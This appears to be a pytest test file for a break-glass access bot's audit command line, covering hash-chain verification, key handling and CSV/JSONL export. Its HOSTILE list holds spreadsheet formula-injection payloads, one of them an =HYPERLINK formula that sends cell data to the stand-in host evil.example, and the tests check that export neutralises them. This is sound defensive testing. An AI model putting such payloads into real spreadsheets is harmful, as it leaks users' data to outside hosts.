"""`breakglass audit verify | export | keygen`: exit codes, one-line messages, exports that round-trip and can be
checked, spreadsheet formulas neutralised, and the key never printed. `serve` refuses to start without a key."""

from __future__ import annotations

import csv
import io
import json
import os
import subprocess
import sys
from collections.abc import Iterator
from datetime import UTC, datetime, timedelta
from importlib.resources import files
from pathlib import Path
from typing import Any

import pytest
from click.testing import Result
from typer.testing import CliRunner

from bot.cli import cli
from bot.cli.audit import parse_when
from bot.clock import SystemClock
from bot.devtools.local_bot import LocalBot
from bot.policy import parse_policy
from bot.settings import VARIABLES
from bot.slack.ids import ActionId
from bot.store import schema
from bot.store.chain import AuditSeal, canonical, key_id_of
from bot.store.db import Database
from tests.store.chain_tools import START, append, chained, edit
from tests.store.conftest import KEY, OLD_KEY

HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1)', "+1+1", "-2+3", "@SUM(A1)", "\tcmd", "\rx", "plain"]


@pytest.fixture(autouse=True)
def clean_environment(monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> None:
    for name in VARIABLES:
        monkeypatch.delenv(name, raising=False)
    monkeypatch.chdir(tmp_path)  # no stray .env


@pytest.fixture
def db(database_url: str) -> Iterator[Database]:
    database = Database.from_url(database_url, AuditSeal(KEY))
    schema.upgrade(database.engine)
    yield database
    database.dispose()


def run(db: Database | None, *args: str, key: str | None = KEY, **env: str) -> Result:
    environ = {"DATABASE_URL": db.engine.url.render_as_string(hide_password=False) if db else None, **env}
    if key is not None:
        environ["BREAKGLASS_AUDIT_KEY"] = key
    result = CliRunner().invoke(cli, ["audit", *args], env=environ, catch_exceptions=False)
    assert KEY not in result.output and OLD_KEY not in result.output
    return result


def one_line(text: str) -> str:
    lines = text.strip().splitlines()
    assert len(lines) == 1, text
    return lines[0]


def trail(db: Database) -> None:
    append(db, {"action": "requested", "at": START, "actor": "U0BOB", "reason": HOSTILE[0], "resource": "orders-db"})
    append(
        db,
        *(
            {"action": "approved", "at": START + timedelta(hours=i + 1), "actor": text, "reason": text, "n": i}
            for i, text in enumerate(HOSTILE)
        ),
    )


def test_verify_an_intact_chain(db: Database) -> None:
    trail(db)
    result = run(db, "verify")
    last = chained(db.engine)[-1]
    assert result.exit_code == 0, result.output
    assert one_line(result.stdout) == f"OK: 8 events, seq 1..8 intact; head 8:{last.hash}"
    assert result.stderr == ""


def test_verify_names_the_first_broken_event_and_exits_1(db: Database) -> None:
    trail(db)
    edit(db.engine, 3, reason="routine maintenance")
    edit(db.engine, 5, actor="U0SOMEONE")
    target = chained(db.engine)[2]

    result = run(db, "verify")
    assert result.exit_code == 1
    assert one_line(result.stdout) == (
        f"BROKEN at seq 3 (id {target.id}): edited: its contents do not match its hash: edited, or forged without "
        "the key"
    )


def test_verify_without_a_key_says_so_in_one_line_and_exits_2(db: Database) -> None:
    result = run(db, "verify", key=None)
    assert result.exit_code == 2
    assert one_line(result.stderr).startswith("breakglass: BREAKGLASS_AUDIT_KEY: required")
    assert "breakglass audit keygen" in result.stderr


def test_verify_with_a_short_key_is_refused_without_echoing_it(db: Database) -> None:
    result = run(db, "verify", key="short-key-1234")
    assert result.exit_code == 2
    assert "too short" in one_line(result.stderr)
    assert "short-key-1234" not in result.output


def test_verify_after_a_rotation_needs_the_retired_key(database_url: str) -> None:
    old = Database.from_url(database_url, AuditSeal(OLD_KEY))
    schema.upgrade(old.engine)
    append(old, {"action": "granted", "at": START})
    new = Database(old.engine, AuditSeal(KEY, [OLD_KEY]))
    append(new, {"action": "expired", "at": START})

    assert run(new, "verify", BREAKGLASS_AUDIT_PREVIOUS_KEYS=f"{OLD_KEY}, ").exit_code == 0
    forgot = run(new, "verify")
    assert forgot.exit_code == 1
    assert key_id_of(OLD_KEY) in one_line(forgot.stdout)
    old.dispose()


def test_verify_with_a_checkpoint(db: Database) -> None:
    trail(db)
    head = one_line(run(db, "verify").stdout).rsplit(" ", 1)[1]
    append(db, {"action": "expired", "at": START})

    assert run(db, "verify", "--expect", head).exit_code == 0
    seq = head.split(":")[0]
    wrong = run(db, "verify", "--expect", f"{seq}:{'0' * 64}")
    assert wrong.exit_code == 1
    assert one_line(wrong.stdout).startswith(f"BROKEN at seq {seq} ")
    malformed = run(db, "verify", "--expect", "latest")
    assert malformed.exit_code == 2
    assert one_line(malformed.stderr).startswith("breakglass: --expect: expected SEQ:HASH")


def test_verify_a_database_without_the_chain_tables(tmp_path: Path) -> None:
    result = run(None, "verify", DATABASE_URL=f"sqlite:///{tmp_path / 'empty.db'}")
    assert result.exit_code == 2
    assert "run `breakglass db upgrade`" in one_line(result.stderr)


def exported_lines(result: Result) -> list[dict[str, Any]]:
    assert result.exit_code == 0, result.output
    return [json.loads(line) for line in result.stdout.splitlines()]


def test_export_jsonl_holds_every_event_in_chain_order_and_can_be_checked_with_the_key(db: Database) -> None:
    trail(db)
    records = exported_lines(run(db, "export", "--format", "jsonl"))

    rows = chained(db.engine)
    assert [r["seq"] for r in records] == list(range(1, 9))
    assert [r["id"] for r in records] == [row.id for row in rows]
    assert [r["reason"] for r in records] == [row.reason for row in rows]
    assert records[1]["detail"] == {"n": 0}
    assert records[0]["at"] == "2026-11-21T09:00:00.000000Z"
    assert [r["prev_hash"] for r in records[1:]] == [r["hash"] for r in records[:-1]]
    seal = AuditSeal(KEY)
    for record in records:  # what an auditor holding the key can do with the export alone
        event = type("Exported", (), record | {"at": datetime.fromisoformat(record["at"])})
        assert seal.mac(record["key_id"], canonical(event)) == record["hash"]  # type: ignore[arg-type]


def test_export_csv_neutralises_formulas_and_round_trips(db: Database) -> None:
    trail(db)
    result = run(db, "export", "--format", "csv")
    assert result.exit_code == 0, result.output
    table = list(csv.DictReader(io.StringIO(result.stdout, newline="")))
    records = exported_lines(run(db, "export"))

    assert list(table[0]) == [
        "seq", "id", "at", "actor", "action", "request_id", "resource", "reason", "detail", "prev_hash", "hash",
        "key_id", "activity",
    ]  # fmt: skip
    for row, record in zip(table, records, strict=True):
        for cell in row.values():
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell
        reason = row["reason"][1:] if row["reason"].startswith("'") else row["reason"]
        assert reason == (record["reason"] or "")
        assert json.loads(row["detail"]) == record["detail"]
        assert (int(row["seq"]), row["hash"], row["key_id"]) == (record["seq"], record["hash"], record["key_id"])
    assert [row["reason"] for row in table[1:]] == [
        "'=HYPERLINK(\"http://evil.example/?\"&A1)", "'+1+1", "'-2+3", "'@SUM(A1)", "'\tcmd", "'\rx", "plain"
    ]  # fmt: skip


def test_export_to_a_file_between_two_times(db: Database, tmp_path: Path) -> None:
    trail(db)
    out = tmp_path / "trail.jsonl"
    result = run(db, "export", "--since", "2026-11-21T10:00Z", "--until", "2026-11-21T12:00:00+00:00", "-o", str(out))

    assert result.exit_code == 0 and result.stdout == ""
    records = [json.loads(line) for line in out.read_text().splitlines()]
    assert [r["at"] for r in records] == ["2026-11-21T10:00:00.000000Z", "2026-11-21T11:00:00.000000Z"]


def test_export_since_a_relative_time(db: Database) -> None:
    now = SystemClock().now()
    append(db, {"action": "old", "at": now - timedelta(days=10)}, {"action": "recent", "at": now - timedelta(days=1)})

    assert [r["action"] for r in exported_lines(run(db, "export", "--since", "7d"))] == ["recent"]
    assert [r["action"] for r in exported_lines(run(db, "export", "--until", "7d"))] == ["old"]


@pytest.mark.parametrize(
    ("args", "message"),
    [
        (["--format", "xml"], "breakglass: --format: expected jsonl or csv, not 'xml'"),
        (["--since", "last tuesday"], "breakglass: 'last tuesday' is neither a date or time"),
        (["--since", "2026-12-01", "--until", "2026-11-01"], "breakglass: --since must be before --until"),
        (["--output", "/nonexistent/dir/trail.csv"], "breakglass: --output: cannot write /nonexistent/dir/trail.csv"),
    ],
)
def test_export_with_bad_arguments_says_so_in_one_line(db: Database, args: list[str], message: str) -> None:
    result = run(db, "export", *args)
    assert result.exit_code == 2
    assert one_line(result.stderr).startswith(message)


def test_when_reads_dates_times_and_durations() -> None:
    now = datetime(2026, 11, 21, 12, 0, tzinfo=UTC)
    assert parse_when("2026-11-01", now) == datetime(2026, 11, 1, tzinfo=UTC)
    assert parse_when("2026-11-01T09:30:00+02:00", now) == datetime(2026, 11, 1, 7, 30, tzinfo=UTC)
    assert parse_when("7d", now) == now - timedelta(days=7)
    assert parse_when(" 12h ", now) == now - timedelta(hours=12)
    with pytest.raises(ValueError, match="neither"):
        parse_when("yesterday", now)


def test_keygen_prints_a_fresh_key_that_the_settings_accept(monkeypatch: pytest.MonkeyPatch) -> None:
    from bot.settings import load_settings

    keys = [CliRunner().invoke(cli, ["audit", "keygen"]).stdout.strip() for _ in range(2)]
    assert keys[0] != keys[1]
    assert all(len(key) >= 60 and key.replace("-", "").replace("_", "").isalnum() for key in keys)
    monkeypatch.setenv("BREAKGLASS_AUDIT_KEY", keys[0])
    assert load_settings(env_file=None).audit_keys() == (keys[0], [])


def serve(tmp_path: Path, **env: str) -> subprocess.Popen[str]:
    (tmp_path / "breakglass.yml").write_text(files("bot").joinpath("defaults/breakglass.yml").read_text())
    inherited = {name: value for name, value in os.environ.items() if name not in VARIABLES}
    slack = {"SLACK_BOT_TOKEN": "xoxb-1", "SLACK_SIGNING_SECRET": "serve-test-signing-secret-0123", "PORT": "9"}
    quiet = {"BREAKGLASS_LOG_LEVEL": "WARNING"}  # without the migration's INFO lines, stderr is the one line
    environ = inherited | slack | quiet | env
    return subprocess.Popen(
        [sys.executable, "-m", "bot", "serve"], cwd=tmp_path, env=environ, stdout=subprocess.PIPE,
        stderr=subprocess.PIPE, text=True,
    )  # fmt: skip


def test_serve_refuses_to_start_without_a_key_or_with_a_key_that_did_not_seal_the_chain(db: Database) -> None:
    append(db, {"action": "granted", "at": START})
    url = db.engine.url.render_as_string(hide_password=False)
    folders = [Path.cwd() / "no-key", Path.cwd() / "wrong-key"]
    for folder in folders:
        folder.mkdir()
    started = [
        serve(folders[0], DATABASE_URL=url),
        serve(folders[1], DATABASE_URL=url, BREAKGLASS_AUDIT_KEY=OLD_KEY),
    ]
    no_key, wrong_key = [(*process.communicate(timeout=60), process.returncode) for process in started]

    assert no_key[2] == 2
    assert one_line(no_key[1]).startswith("breakglass: BREAKGLASS_AUDIT_KEY: required")
    assert wrong_key[2] == 2
    line = one_line(wrong_key[1])
    assert line.startswith("breakglass: BREAKGLASS_AUDIT_KEY: the audit chain was last sealed with key id")
    assert key_id_of(KEY) in line and "BREAKGLASS_AUDIT_PREVIOUS_KEYS" in line
    assert OLD_KEY not in line


def test_the_real_bot_leaves_a_chain_that_verifies(database_url: str) -> None:
    """The bot over HTTP, as in the end-to-end tests: request, approval, expiry, each sealed as it commits."""
    policy = parse_policy(files("bot").joinpath("defaults/breakglass.yml").read_text())
    with LocalBot(policy, database_url) as bot:
        assert "Request #1" in bot.command("U0BOB", "orders-db 30m INC-4211 checkout failing").text
        bot.click("U0ALICE01", ActionId.APPROVE.value, 1)
        bot.advance(timedelta(minutes=31))
        bot.command("U0BOB", "orders-db:write 20m INC-4212 locked --emergency")
        key = bot.audit_key
    database = Database.from_url(database_url)
    try:
        actions = [row.action for row in chained(database.engine)]
    finally:
        database.dispose()
    assert {"requested", "approved", "granted", "expired", "emergency"} <= set(actions)

    result = CliRunner().invoke(
        cli, ["audit", "verify"], env={"DATABASE_URL": database_url, "BREAKGLASS_AUDIT_KEY": key}
    )
    assert result.exit_code == 0, result.output
    assert one_line(result.stdout).startswith(f"OK: {len(actions)} events, seq 1..{len(actions)} intact; head ")
    assert key not in result.output
